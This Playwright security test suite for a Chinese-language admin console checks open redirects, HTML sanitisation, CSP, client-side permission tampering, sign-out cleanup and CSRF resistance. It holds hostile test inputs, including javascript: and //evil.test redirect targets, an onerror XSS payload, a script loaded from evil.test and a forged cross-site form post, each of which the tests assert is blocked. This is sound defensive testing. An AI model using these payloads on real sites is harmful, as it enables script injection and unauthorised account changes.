import type { Page } from "@playwright/test";
import { signInByApi } from "../support/apiClient.ts";
import { expect, test } from "../support/consoleTest.ts";
import { enter } from "../support/enterConsole.ts";
import { HARMLESS_HTML, HOSTILE_HTML, HOSTILE_TEXTS } from "../support/hostileTexts.ts";
import { testPassword } from "../support/runningConsole.ts";

declare global {
  interface Window {
    /** Set by a hostile text that was run. */
    __pwn?: unknown;
  }
}

/**
 * What the browser says when the page's policy stops something. The sanitiser's parser works under that policy too, so
 * hostile markup is reported before it is taken out. A picture of our own host that is not there is a 404.
 */
const POLICY_WORDS = ["CSP report", "Content Security Policy", "This document requires", "Trusted Type", 404] as const;

/** Requests that left for another host, and dialogs that opened; nothing of either is let through. */
function watchHarm(page: Page, own: string): readonly string[] {
  const harm: string[] = [];
  page.on("request", (request) => {
    const url = request.url();
    if (/^(?:https?|wss?):/.test(url) && new URL(url).host !== new URL(own).host) harm.push(url);
  });
  page.on("dialog", (dialog) => {
    harm.push(`dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  return harm;
}

/** Nothing planted ran, and nothing on the page would run when it is followed. */
async function expectInert(page: Page, harm: readonly string[]): Promise<void> {
  expect(await page.evaluate(() => window.__pwn)).toBeUndefined();
  expect(
    await page.evaluate(() =>
      [...document.querySelectorAll("*")].flatMap((element) =>
        [...element.attributes]
          .filter(
            ({ name, value }) =>
              name.startsWith("on") || (/^(?:href|src|action)$/.test(name) && /^\s*(?:javascript|data:text)/i.test(value)),
          )
          .map(({ name }) => `${element.tagName} ${name}`),
      ),
    ),
  ).toEqual([]);
  expect(harm).toEqual([]);
}

test("S-34 after the sign-in only addresses of this console are followed", async ({ page, console: running }) => {
  const harm = watchHarm(page, running.url);
  for (const target of ["//evil.test", "/\\evil.test", "javascript:window.__pwn=1"]) {
    await enter(page, "viewer", `/user/login?redirect=${encodeURIComponent(target)}`);
    await expect(page).toHaveURL(`${running.url}/dashboard/analysis`);
    await page.evaluate(() => {
      localStorage.clear();
      sessionStorage.clear();
    });
  }
  await enter(page, "viewer", `/user/login?redirect=${encodeURIComponent("/hiv/organ?status=open")}`);
  await expect(page).toHaveURL(/\/hiv\/organ\?/);
  await expectInert(page, harm);
});

test("S-30 O6 an announcement that reached the table uncleaned shows its harmless part and does nothing", async ({
  page,
  signIn,
  console: running,
  refusals,
}) => {
  for (const words of POLICY_WORDS) refusals.add(words);
  const harm = watchHarm(page, running.url);
  const admin = await signInByApi(running.url, "admin");
  const body = { titile: "带有脚本的通告", msgCategory: "1", priority: "H", msgType: "ALL", msgContent: "<p>将被替换</p>" };
  const { result } = await admin.call("POST", "/sys/annountCement/add", body);
  await admin.call("GET", `/sys/annountCement/doReleaseData?id=${result.id}`);
  // The server cleans what it stores; this is what it would send if somebody had written past it.
  await page.route(/annountCement\/queryById/, async (route) => {
    const answer = (await (await route.fetch()).json()) as { result: { msgContent: string } };
    answer.result.msgContent = `${HARMLESS_HTML}${HOSTILE_HTML.map(([, html]) => `<div>${html}</div>`).join("")}<img src="https://evil.test/seen.png" alt="外部图片"><p>结尾</p>`;
    await route.fulfill({ json: answer });
  });
  await signIn("admin");
  await page.getByRole("button", { name: /通知与消息/ }).click();
  await page.getByRole("button", { name: /带有脚本的通告/ }).click();
  const dialog = page.getByRole("dialog", { name: "通知消息" });
  await expect(dialog.getByText("结尾")).toBeVisible();
  await expect(dialog.locator("b", { hasText: "加粗" })).toBeVisible();
  await expect(dialog.locator("td[colspan='2']")).toHaveText("格");
  await expect(dialog.getByRole("link", { name: "外部链接" })).toHaveAttribute("rel", "noopener noreferrer");
  await expect(dialog.getByText("图片“外部图片”在其他网站上，这里不显示：https://evil.test/seen.png")).toBeVisible();
  await expect(dialog.getByRole("img", { name: "外部图片" })).toHaveCount(0);
  for (const link of await dialog.getByText("点这里").all()) await link.click();
  await expectInert(page, harm);
});

test("S-33 what is pasted into the editor is cleaned before it is shown, and stored without its active parts", async ({
  page,
  signIn,
  console: running,
  refusals,
}) => {
  for (const words of POLICY_WORDS) refusals.add(words);
  const harm = watchHarm(page, running.url);
  await signIn("admin", "/sys/annountCement");
  await page.getByRole("button", { name: /新\s*增/ }).click();
  const form = page.getByRole("dialog", { name: /新增/ });
  await form.getByRole("textbox", { name: "标题" }).fill("粘贴的通告");
  const editor = form.locator("[contenteditable=true]");
  await editor.click();
  await editor.evaluate(
    (element, html) => {
      const clipboardData = new DataTransfer();
      clipboardData.setData("text/html", html);
      element.dispatchEvent(new ClipboardEvent("paste", { clipboardData, bubbles: true, cancelable: true }));
    },
    `<p>粘贴开头</p>${HOSTILE_HTML.map(([, html]) => html).join("")}<p>粘贴结尾</p>`,
  );
  await expect(editor.getByText("粘贴结尾")).toBeVisible();
  await expectInert(page, harm);
  await form.getByRole("button", { name: /保\s*存/ }).click();
  await expect(form).toBeHidden();
  const admin = await signInByApi(running.url, "admin");
  const list = await admin.call("GET", `/sys/annountCement/list?titile=${encodeURIComponent("粘贴的通告")}`);
  const kept = await admin.call("GET", `/sys/annountCement/queryById?id=${list.result.records[0]?.id}`);
  expect(kept.result.msgContent).toContain("粘贴开头");
  expect(kept.result.msgContent).not.toMatch(/<script|\son\w+=|javascript:|<svg|<iframe|<style|<form/i);
});

test("S-32 names of roles, departments and dictionary items are letters wherever they are shown", async ({
  page,
  signIn,
  console: running,
}) => {
  const harm = watchHarm(page, running.url);
  const admin = await signInByApi(running.url, "admin");
  for (const [index, name] of HOSTILE_TEXTS.entries()) {
    const role = await admin.call("POST", "/sys/role/add", { roleName: name, roleCode: `hostile_${index}` });
    const depart = await admin.call("POST", "/sys/sysDepart/add", { departName: name, orgCode: `X${index}`, category: "department" });
    expect([role.message, depart.message]).toEqual(["添加成功！", "添加成功！"]);
  }
  const [image = "", drawing = ""] = HOSTILE_TEXTS;
  const dict = await admin.call("GET", "/sys/dict/list?dictCode=sex");
  const item = { dictId: dict.result.records[0]?.id, itemText: image, itemValue: "9", color: "blue", sortOrder: 9, status: "enabled" };
  expect((await admin.call("POST", "/sys/dictItem/add", item)).success).toBe(true);
  const user = { username: "hostile", realname: drawing, status: "normal", password: testPassword, sex: "9" };
  expect((await admin.call("POST", "/sys/user/add", user)).success).toBe(true);

  await signIn("admin", "/sys/role");
  for (const name of HOSTILE_TEXTS) await expect(page.getByRole("cell", { name, exact: true })).toBeVisible();
  await page.goto("/sys/sysDepart");
  for (const name of HOSTILE_TEXTS) await expect(page.getByText(name, { exact: true }).first()).toBeVisible();
  await page.goto("/sys/user");
  const row = page.getByRole("row").filter({ hasText: "hostile" });
  await expect(row).toContainText(drawing);
  await row.getByRole("button", { name: "详情" }).click();
  const detail = page.getByRole("dialog").filter({ hasText: "hostile" });
  await expect(detail).toContainText(image);
  await page.keyboard.press("Escape");
  await expect(detail).toBeHidden();
  await row.getByText(drawing).hover();
  await page.getByRole("button", { name: /新\s*增/ }).click();
  const form = page.getByRole("dialog", { name: /新增/ });
  await form.getByRole("combobox", { name: "角色" }).click();
  await page.getByRole("listbox").waitFor({ state: "attached" });
  await expect(page.locator(".ant-select-item-option").filter({ hasText: image })).toBeVisible();
  await expectInert(page, harm);
});

test("S-16 rights that somebody writes into their own browser open no call", async ({ page, signIn, console: running, refusals }) => {
  refusals.add(403);
  const harm = watchHarm(page, running.url);
  const [admin, viewer] = [await signInByApi(running.url, "admin"), await signInByApi(running.url, "viewer")];
  const organs = () => admin.call("GET", "/hiv/organ/list").then(({ result }) => result.total);
  const before = await organs();
  // Whoever owns the browser also owns what it shows: the rights in its storage, and the screen as the server sent it.
  await page.route(/schema\/screen\/organ(?:\?|$)/, async (route) => {
    const screen = await fetch(route.request().url(), { headers: { "X-Access-Token": admin.token } });
    await route.fulfill({ json: await screen.json() });
  });
  await page.route(/getUserPermissionByToken/, async (route) => {
    const { result } = await admin.call<{ codes: string[]; auth: object[]; allAuth: object[] }>(
      "GET",
      "/sys/permission/getUserPermissionByToken",
    );
    const answer = (await (await route.fetch()).json()) as { result: object };
    await route.fulfill({ json: { ...answer, result: { ...answer.result, codes: result.codes, auth: result.auth, fullAccess: true } } });
  });
  await signIn("viewer");
  await page.evaluate(() => {
    for (const key of ["LOGIN_USER_BUTTON_AUTH", "SYS_BUTTON_AUTH"])
      sessionStorage.setItem(key, JSON.stringify({ value: [{ action: "hiv:organ:delete", type: "1", status: "1" }], expire: null }));
  });
  await page.goto("/hiv/organ");
  await page.locator("tr[data-row-key]").first().getByRole("button", { name: "更多" }).click();
  await page.getByRole("menuitem", { name: "删除" }).click();
  await page
    .getByRole("dialog")
    .getByRole("button", { name: /删\s*除|确\s*定/ })
    .click();
  await expect(page.getByText("没有权限，请联系管理员授权")).toBeVisible();
  expect(await organs()).toBe(before);
  expect((await viewer.call("DELETE", "/hiv/organ/delete?id=x")).status).toBe(403);
  await expectInert(page, harm);
});

test("S-36 signing out leaves nothing of the person, the session or the data in the browser", async ({
  page,
  console: running,
  refusals,
}) => {
  // A call that was under way when the session ended is refused.
  refusals.add(401);
  // Through the page: a browser that somebody signed in at is marked.
  await enter(page, "admin");
  for (const path of ["/hiv/appointment", "/sys/user", "/account/settings/base"]) {
    await page.goto(path);
    await expect(page.getByRole("tab").first()).toBeVisible();
  }
  await page.goto("/hiv/appointment");
  await page.getByRole("button", { name: /^展开/ }).click();
  const token = await page.evaluate(() => String((JSON.parse(localStorage.getItem("Access-Token") ?? "{}") as { value?: string }).value));
  expect(token).toHaveLength(43);
  await page.getByRole("button", { name: /用户菜单/ }).click();
  await page.getByRole("menuitem", { name: "退出登录" }).click();
  await page.getByRole("dialog").getByRole("button", { name: "退出登录" }).click();
  await page.waitForURL(/\/user\/login/);
  await expect(page.getByRole("button", { name: /^登\s*录$/ })).toBeVisible();
  const left = await page.evaluate(async () => ({
    stored: { ...localStorage, ...sessionStorage } as Record<string, string>,
    databases: (await indexedDB.databases()).map(({ name }) => name),
    caches: await caches.keys(),
    cookies: document.cookie,
  }));
  expect(Object.keys(left.stored).filter((key) => !/^(?:DEFAULT_|ribbon\.|SIDEBAR_TYPE$|enhance_notices$)/.test(key))).toEqual([]);
  expect(Object.keys(left.stored).filter((key) => key.includes(".query.appointment"))).toHaveLength(1);
  // Settings are kept by the person's id, which is random and may have eleven digits in a row.
  const kept = JSON.stringify(left.stored).replaceAll(/ribbon\.[0-9a-f]{32}/g, "");
  expect(kept).not.toMatch(new RegExp(`${token}|1[3-9]\\d{9}|@|管理员|admin`));
  expect({ ...left, stored: {} }).toEqual({ stored: {}, databases: [], caches: [], cookies: "" });
  // What stays is the mark of a browser its owner was at: no script reads it, it opens nothing, and it names nobody.
  const marks = (await page.context().cookies()).map(({ name, httpOnly, sameSite }) => ({ name, httpOnly, sameSite }));
  expect(marks).toEqual([{ name: "ribbon-device", httpOnly: true, sameSite: "Strict" }]);
  const later = await fetch(`${running.url}/apiserver/sys/user/getCurrentUserDeparts`, { headers: { "X-Access-Token": token } });
  expect(later.status).toBe(401);
});

test("S-37 a script that somebody slips into the page is blocked and reported", async ({ page, signIn, console: running, refusals }) => {
  for (const words of POLICY_WORDS) refusals.add(words);
  const nowhere = await fetch(`${running.url}/no/such/page`);
  expect([nowhere.status, nowhere.headers.get("content-security-policy")]).toEqual([404, "default-src 'none'; frame-ancestors 'none'"]);
  for (const path of ["/", "/user/login", "/hiv/appointment"]) {
    const policy = (await fetch(`${running.url}${path}`)).headers.get("content-security-policy") ?? "";
    expect(policy).toContain("script-src 'self';");
    for (const directive of ["object-src 'none'", "base-uri 'none'", "frame-ancestors 'none'"]) expect(policy).toContain(directive);
    expect(policy).not.toMatch(/script-src[^;]*unsafe|unsafe-eval/);
  }
  await signIn("viewer");
  const harm = watchHarm(page, running.url);
  const reported = page.waitForRequest(/\/apiserver\/csp$/);
  const outcomes = await page.evaluate(() => {
    const ways: Record<string, () => void> = {
      text: () => {
        const script = document.createElement("script");
        script.append("window.__pwn = 1");
        document.body.append(script);
      },
      address: () => {
        const script = document.createElement("script");
        script.src = "https://evil.test/x.js";
        document.body.append(script);
      },
      markup: () => {
        document.body.insertAdjacentHTML("beforeend", "<img src=x onerror='window.__pwn=1'>");
      },
      handler: () => {
        document.body.setAttribute("onclick", "window.__pwn=1");
        document.body.click();
      },
      evaluation: () => {
        // oxlint-disable-next-line no-implied-eval
        (globalThis.setTimeout as (code: string) => void)("window.__pwn=1");
      },
    };
    return Object.entries(ways).map(([name, run]) => {
      try {
        run();
        return `${name}: passed over`;
      } catch (error) {
        return `${name}: ${(error as Error).name}`;
      }
    });
  });
  expect(outcomes).toContain("markup: TypeError");
  expect(outcomes).toContain("address: TypeError");
  await reported;
  await expect.poll(() => running.output()).toContain("content security policy violated");
  expect(await page.evaluate(() => window.__pwn)).toBeUndefined();
  expect(harm).toEqual([]);
  expect(await page.evaluate(() => [...document.querySelectorAll("style")].every((style) => style.nonce !== ""))).toBe(true);
});

test("S-51 a page of another site, in a browser that is signed in, changes nothing and reads nothing", async ({
  signIn,
  console: running,
  context,
}) => {
  await signIn("admin");
  const admin = await signInByApi(running.url, "admin");
  const { result } = await admin.call("GET", "/sys/user/list?username=viewer");
  const target = result.records[0] ?? { id: "", rev: 0 };
  const evil = await context.newPage();
  await evil.route("http://evil.test/", (route) =>
    route.fulfill({
      contentType: "text/html",
      body: `<iframe name="into"></iframe><form method="post" enctype="text/plain" target="into" action="${running.url}/apiserver/sys/user/edit"><input name='{"id":"${target.id}","rev":${target.rev},"realname":"evil","x":"' value='"}'></form>`,
    }),
  );
  await evil.goto("http://evil.test/");
  const outcomes = await evil.evaluate(
    async ({ url, body }) => {
      const tries: readonly RequestInit[] = [
        { method: "PUT", headers: { "content-type": "application/json", "X-Access-Token": "x" }, body },
        { method: "POST", headers: { "content-type": "text/plain" }, body, credentials: "include" },
        { method: "GET", credentials: "include" },
      ];
      const read = tries.map((init) =>
        fetch(`${url}/apiserver/sys/user/edit`, init).then(
          () => "read",
          () => "refused",
        ),
      );
      document.querySelector("form")?.submit();
      return Promise.all(read);
    },
    { url: running.url, body: JSON.stringify({ ...target, realname: "evil" }) },
  );
  expect(outcomes).toEqual(["refused", "refused", "refused"]);
  await evil.evaluate((url) => {
    const frame = document.createElement("iframe");
    frame.src = url;
    document.body.append(frame);
    return new Promise((resolve) => frame.addEventListener("load", resolve));
  }, running.url);
  expect(evil.frames().some((frame) => frame !== evil.mainFrame() && frame.url().startsWith(`${running.url}/dashboard`))).toBe(false);
  await evil.close();
  const after = await admin.call("GET", "/sys/user/list?username=viewer");
  expect(after.result.records[0]).toMatchObject({ rev: target.rev });
  expect(after.result.records[0]?.realname).not.toBe("evil");
});
